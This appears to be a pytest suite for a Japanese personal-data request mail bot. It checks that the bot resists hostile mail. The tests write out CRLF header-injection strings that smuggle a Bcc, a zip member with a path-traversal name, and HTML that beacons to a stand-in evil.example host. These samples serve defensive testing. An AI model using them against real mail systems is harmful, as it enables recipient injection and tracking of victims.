"""Mail written to attack the window: header injection, redirected replies, lying file
types, archives, remote content in HTML, oversized mail.

Each test checks the outcome, the case and what actually left through the outbox.
"""

from __future__ import annotations

import base64
import email.message
import io
import socket
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from PIL import Image

from bot import casestore
from bot.app import App
from bot.db import OutboundMessage
from bot.delivery import deliver_queued
from bot.export import case_to_json
from bot.mailbox import Incoming
from bot.models import Attachment
from bot.pipeline import Result, handle
from parsers.attachments import read_attachment
from tests import apps, factory
from tests.apps import WINDOW
from tests.test_fuzz_mail import FastOcr
from tests.test_pipeline import body_of, outbox

VICTIM = "victim@example.org"
SENDER = "taro@example.com"


def make_app(tmp_path: Path, **extra: str) -> App:
    app = apps.make_app(tmp_path, **extra)
    app.ocr = FastOcr()
    return app


@pytest.fixture
def app(tmp_path: Path) -> Iterator[App]:
    a = make_app(tmp_path)
    yield a
    a.close()


def feed(app: App, raw: bytes, key: str = "1") -> Result:
    result = handle(app, Incoming(key=key, raw=raw), mark_mailbox=False)
    deliver_queued(app)
    return result


def only_case(app: App) -> dict[str, object]:
    with app.session() as s:
        [case] = [case_to_json(c) for c in casestore.all_cases(s)]
    return case


def recipients(app: App) -> list[str]:
    """Every envelope recipient the outbox was given (the dir outbox keeps only the bytes)."""
    with app.session() as s:
        return [o.to_addr for o in s.query(OutboundMessage).all()]


def assert_no_injection(reply: email.message.EmailMessage, to: str = SENDER, anywhere: bool = True) -> None:
    """No added recipient header; with `anywhere`, the victim's address in no header at all."""
    assert reply["To"] == to
    for name in ("Bcc", "Cc", "Resent-To", "Resent-Bcc"):
        assert reply[name] is None, name
    raw_head = reply.as_bytes().split(b"\r\n\r\n", 1)[0].split(b"\n\n", 1)[0]
    if anywhere:
        assert VICTIM.encode() not in raw_head
    assert all("\r" not in str(v) and "\n" not in str(v) for v in reply.values())


def request_mail(**kw: object) -> bytes:
    base: dict[str, object] = {"sender": SENDER, "subject": "開示請求", "body": "開示を請求します。"}
    base.update(kw)
    return factory.mail(**base)  # type: ignore[arg-type]


def _b_word(text: str) -> str:
    return f"=?utf-8?B?{base64.b64encode(text.encode()).decode()}?="


# --------------------------------------------------------------------------- header injection


@pytest.mark.parametrize("display", [
    _b_word(f"山田 太郎\r\nBcc: {VICTIM}"),
    _b_word(f"Taro\nBcc: {VICTIM}\n"),
    f"=?utf-8?Q?Taro=0D=0ABcc=3A_{VICTIM.replace('@', '=40')}?=",
    f'"Taro\\r\\nBcc: {VICTIM}"',
])
def test_an_injected_bcc_in_the_display_name_goes_nowhere(app: App, display: str) -> None:
    raw = request_mail().replace(f"From: {SENDER}".encode(), f"From: {display} <{SENDER}>".encode())
    assert feed(app, raw).outcome == "request"
    [reply] = outbox(app)
    assert_no_injection(reply)
    assert recipients(app) == [SENDER]
    name = str(only_case(app)["requester"]["name"])  # type: ignore[index]
    assert "\r" not in name and "\n" not in name


@pytest.mark.parametrize("subject", [
    f"開示請求\r\nBcc: {VICTIM}".encode(),  # a raw CR/LF simply starts a header of the incoming mail
    f"{_b_word('開示請求' + chr(13) + chr(10) + 'Bcc: ' + VICTIM)}".encode(),
    f"=?iso-2022-jp?Q?=1B$B3+<(@A5a=1B(B=0D=0ABcc:_{VICTIM.replace('@', '=40')}?=".encode(),
])
def test_an_injected_bcc_in_the_subject_goes_nowhere(app: App, subject: bytes) -> None:
    raw = request_mail().replace(b"Subject: ", b"Subject: " + subject + b" ", 1)
    assert feed(app, raw).outcome == "request"
    [reply] = outbox(app)
    assert_no_injection(reply)
    assert recipients(app) == [SENDER]


def test_a_raw_line_break_in_the_display_name_does_not_add_a_recipient(app: App) -> None:
    """`From: Taro<CR><LF>Bcc: victim <taro@…>`: the From header is only 'Taro'; the Bcc is a
    header of the incoming mail, never of a reply."""
    raw = request_mail().replace(f"From: {SENDER}".encode(), f"From: Taro\r\nBcc: {VICTIM} <{SENDER}>".encode())
    feed(app, raw)
    assert VICTIM not in recipients(app)
    for reply in outbox(app):
        assert_no_injection(reply, to=str(reply["To"]))


def test_a_from_without_a_domain_gets_no_reply(app: App) -> None:
    raw = request_mail().replace(f"From: {SENDER}".encode(), f"From: Taro\r\nBcc: {VICTIM} <{SENDER}>".encode())
    result = feed(app, raw)
    assert result.outcome == "inquiry"
    assert outbox(app) == [] and recipients(app) == []


def test_a_form_name_with_an_injected_bcc_stays_in_the_body(app: App) -> None:
    form = factory.filled_form({"requester_name": f"山田 太郎\r\nBcc: {VICTIM}", "requester_email": f"{VICTIM}"},
                               ["type_disclose"])
    assert feed(app, request_mail(attachments=(("form.pdf", "application/pdf", form),))).outcome == "request"
    [reply] = outbox(app)
    assert_no_injection(reply)
    assert recipients(app) == [SENDER]  # not the e-mail address written on the form
    case = only_case(app)
    assert case["requester"]["email"] == SENDER  # type: ignore[index]
    name = str(case["requester"]["name"])  # type: ignore[index]
    assert "\n" not in name and "\r" not in name
    lines = [line for line in body_of(reply).splitlines() if "Bcc:" in line]
    assert [line.startswith("山田 太郎") for line in lines] == [True]  # one line, the greeting: text, not a header


# --------------------------------------------------------------------------- where replies go


@pytest.mark.parametrize("extra", [
    {"Reply-To": "mallory@example.net"},
    {"Reply-To": f"{VICTIM}, mallory@example.net", "Cc": VICTIM},
    {"Reply-To": "mallory@example.net", "Mail-Followup-To": VICTIM, "Errors-To": VICTIM, "Sender": VICTIM},
])
def test_replies_go_to_from_never_to_reply_to(app: App, extra: dict[str, str]) -> None:
    assert feed(app, request_mail(headers=extra)).outcome == "request"
    [reply] = outbox(app)
    assert_no_injection(reply)
    assert recipients(app) == [SENDER]
    assert "mallory" not in reply.as_string()


def test_two_from_headers_reply_only_to_the_first(app: App) -> None:
    raw = request_mail().replace(b"To: ", f"From: {VICTIM}\r\nTo: ".encode(), 1)
    feed(app, raw)
    assert recipients(app) == [SENDER]


# --------------------------------------------------------------------------- lying labels


def _jpeg(size: tuple[int, int] = (300, 200)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, "white").save(buf, "JPEG")
    return buf.getvalue()


def _kinds(case: dict[str, object]) -> list[str]:
    return sorted(str(d["kind"]) for d in case["documents"])  # type: ignore[attr-defined]


def test_a_pdf_labelled_as_a_jpeg_is_read_as_a_pdf(app: App) -> None:
    record = factory.resident_record("山田 太郎", "東京都例区1-1")
    feed(app, request_mail(attachments=(("photo.jpg", "image/jpeg", record),)))
    case = only_case(app)
    assert _kinds(case) == ["resident_record"]
    assert "resident_record" not in case["missing"]  # type: ignore[operator]


def test_a_jpeg_labelled_as_a_pdf_is_read_as_an_image(app: App) -> None:
    class Licence(FastOcr):
        def image_to_text(self, image: object) -> str:
            return "運転免許証\n氏名 山田 太郎 昭和55年08月15日生\n住所 東京都例区1-1\n見本県公安委員会\n番号 第 123456789012 号"

    app.ocr = Licence()
    feed(app, request_mail(attachments=(("license.pdf", "application/pdf", _jpeg((1200, 800))),)))
    case = only_case(app)
    assert "unreadable_attachment" not in case["flags"]  # type: ignore[operator]
    assert _kinds(case) == ["drivers_license"]


@pytest.mark.parametrize("ctype,name", [("application/pdf", "scan.pdf"), ("image/jpeg", "scan.jpg")])
def test_random_bytes_under_a_document_label_are_flagged_unreadable(app: App, ctype: str, name: str) -> None:
    junk = bytes((i * 37 + 11) % 256 for i in range(3000))
    assert feed(app, request_mail(attachments=((name, ctype, junk),))).outcome == "request"
    case = only_case(app)
    assert "unreadable_attachment" in case["flags"]  # type: ignore[operator]
    assert len(outbox(app)) == 1


# --------------------------------------------------------------------------- archives


def _zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("license.pdf", factory.drivers_license("山田 太郎", "東京都例区1-1"))
        archive.writestr("../../escape.txt", b"x")
    return buf.getvalue()


@pytest.mark.parametrize("name,ctype", [("docs.zip", "application/zip"), ("docs.pdf", "application/pdf")])
def test_an_archive_is_never_opened(app: App, name: str, ctype: str, monkeypatch: pytest.MonkeyPatch) -> None:
    data = _zip()
    opened: list[object] = []
    real = zipfile.ZipFile.open

    def spy(self: zipfile.ZipFile, *args: object, **kwargs: object) -> object:
        opened.append(args[0] if args else None)
        return real(self, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(zipfile.ZipFile, "open", spy)
    assert feed(app, request_mail(attachments=((name, ctype, data),))).outcome == "request"
    case = only_case(app)
    assert opened == []  # its members are never read (a .docx check lists names only)
    assert "drivers_license" not in _kinds(case)  # what is inside counts for nothing
    assert "identity_document" in case["missing"]  # type: ignore[operator]
    assert not list((Path(app.settings.data_dir)).rglob("escape.txt"))
    reading = read_attachment(Attachment(filename=name, content_type=ctype, data=data), ocr=FastOcr())
    assert reading.unreadable_reason == "archive"
    assert [(d.kind, d.unreadable) for d in reading.documents] == [("unknown", True)]  # the contract's unreadable file


@pytest.mark.parametrize("name,ctype", [("docs.zip", "application/zip"), ("docs.pdf", "application/pdf")])
def test_an_archive_is_flagged_and_the_requester_is_asked_for_pdf_or_images(app: App, name: str, ctype: str) -> None:
    feed(app, request_mail(attachments=((name, ctype, _zip()),)))
    case = only_case(app)
    [reply] = outbox(app)
    text = body_of(reply)
    assert "unreadable_attachment" in case["flags"]  # type: ignore[operator]
    assert "PDF" in text and ("画像" in text or "写真" in text) and ("ZIP" in text or "圧縮" in text)


# --------------------------------------------------------------------------- HTML with remote content


HOSTILE_HTML = (
    "<html><head><script src='http://evil.example/x.js'></script>"
    "<link rel=stylesheet href='https://evil.example/s.css'>"
    "<style>body{background:url(http://evil.example/bg.png)}</style></head>"
    "<body><img src='http://tracker.example/pixel.gif?id=1' width=1 height=1>"
    "<script>fetch('http://evil.example/beacon')</script>"
    "<iframe src='http://evil.example/frame'></iframe>"
    "<p>私の個人情報の開示を請求します。</p>"
    "<img src='cid:logo@example.com'><object data='http://evil.example/o.swf'></object></body></html>"
)


def test_remote_content_in_html_is_never_fetched_and_the_request_is_read(app: App,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    tried: list[object] = []

    def no_network(*args: object, **kwargs: object) -> None:
        tried.append(args[:1])
        raise OSError("network used while handling a message")

    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket.socket, "connect_ex", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    msg = email.message.EmailMessage()
    msg["From"] = f"山田 太郎 <{SENDER}>"
    msg["To"] = WINDOW
    msg["Subject"] = "ご連絡"
    msg["Message-ID"] = "<html-1@example.com>"
    msg.set_content(HOSTILE_HTML, subtype="html")
    result = handle(app, Incoming(key="h", raw=msg.as_bytes()), mark_mailbox=False)
    assert tried == []
    assert result.outcome == "request"
    case = only_case(app)
    assert case["request_types"] == ["disclose"]
    monkeypatch.undo()
    deliver_queued(app)
    [reply] = outbox(app)
    assert "evil.example" not in reply.as_string() and "tracker.example" not in reply.as_string()


# --------------------------------------------------------------------------- oversized mail


def test_an_oversized_hostile_mail_gets_one_polite_notice_to_its_sender(tmp_path: Path) -> None:
    app = make_app(tmp_path, MADOGUCHI_MAX_MESSAGE_BYTES="20000")
    try:
        raw = request_mail(headers={"Reply-To": "mallory@example.net"},
                           attachments=(("big.jpg", "image/jpeg", _jpeg() + bytes(30000)),))
        raw = raw.replace(f"From: {SENDER}".encode(), f"From: {_b_word('Taro' + chr(10) + 'Bcc: ' + VICTIM)} "
                                                       f"<{SENDER}>".encode())
        assert feed(app, raw).outcome == "quarantined"
        with app.session() as s:
            [q] = casestore.quarantined(s)
            assert q.step == "size"
        [notice] = outbox(app)
        assert_no_injection(notice)
        assert recipients(app) == [SENDER]
        text = body_of(notice)
        assert "大きすぎる" in notice["Subject"] and "小さく" in text and "分けて" in text
        assert feed(app, raw, key="again").outcome == "duplicate"
        assert len(outbox(app)) == 1
        # the bot goes on with the next message
        assert feed(app, request_mail(sender="hanako@example.org"), key="next").outcome == "request"
    finally:
        app.close()


@pytest.mark.parametrize("message_id", [
    f"<a1@example.com>\r\nBcc: {VICTIM}",  # a raw line break: a header of the incoming mail only
    _b_word(f"<a2@example.com>\r\nBcc: {VICTIM}"),
    f"<a3\rBcc: {VICTIM}@example.com>",
    f"<a4@example.com\tBcc:{VICTIM}>",
])
def test_an_injected_bcc_in_the_message_id_stays_out_of_in_reply_to(app: App, message_id: str) -> None:
    raw = request_mail(message_id="<placeholder@example.com>").replace(b"<placeholder@example.com>",
                                                                       message_id.encode(), 1)
    assert feed(app, raw).outcome == "request"
    [reply] = outbox(app)
    assert_no_injection(reply, anywhere=False)  # '<a4@example.comBcc:victim@…>' is one (odd) id: harmless
    assert recipients(app) == [SENDER]
    for name in ("In-Reply-To", "References"):
        value = str(reply[name] or "")
        assert len(value.split()) <= 1 and value.count("<") <= 1, value
